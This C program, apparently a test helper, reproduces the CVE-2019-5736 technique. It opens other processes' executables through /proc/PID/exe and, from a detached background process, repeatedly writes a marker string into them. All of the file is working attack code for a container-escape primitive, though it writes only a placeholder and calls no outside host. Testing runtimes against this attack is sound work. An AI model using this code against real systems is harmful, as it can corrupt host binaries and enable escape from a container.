/*
 * Overwrites the program of other processes through /proc/PID/exe, as CVE-2019-5736 did. `rewrite MILLISECONDS DEVICE
 * INODE` opens that file through every process that executes it and that it may look at. It tries to write until the
 * time is over, in a process of its own, since a running program can't be written to (ETXTBSY). It touches no other
 * file, since with all privileges it sees the programs of the whole machine. Prints how often it has opened the file.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int held[256], count;

static void take_all(dev_t device, ino_t inode)
{
	char name[64];
	struct stat st;
	DIR *proc = opendir("/proc");
	if (!proc)
		return;
	for (struct dirent *entry; (entry = readdir(proc)) && count < 256;) {
		if (!isdigit((unsigned char)*entry->d_name))
			continue;
		snprintf(name, sizeof name, "/proc/%.20s/exe", entry->d_name);
		int fd = open(name, O_RDONLY);
		if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == device && st.st_ino == inode)
			held[count++] = fd;
		else if (fd >= 0)
			close(fd);
	}
}

static void write_all(int milliseconds)
{
	struct timespec pause = {.tv_nsec = 200000};
	char name[64];
	for (int i = 0; i < milliseconds * 5; i++) {
		for (int k = 0; k < count; k++) {
			snprintf(name, sizeof name, "/proc/self/fd/%d", held[k]);
			int fd = open(name, O_WRONLY);
			if (fd >= 0)
				(void)!write(fd, "overwritten", 11);
			close(fd);
		}
		nanosleep(&pause, NULL);
	}
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	take_all(strtoul(argv[2], NULL, 10), strtoul(argv[3], NULL, 10));
	printf("%d\n", count);
	fflush(stdout);
	if (fork() != 0)
		return 0;
	setsid();
	signal(SIGHUP, SIG_IGN);
	close(0), close(1), close(2);
	write_all(atoi(argv[1]));
	return 0;
}
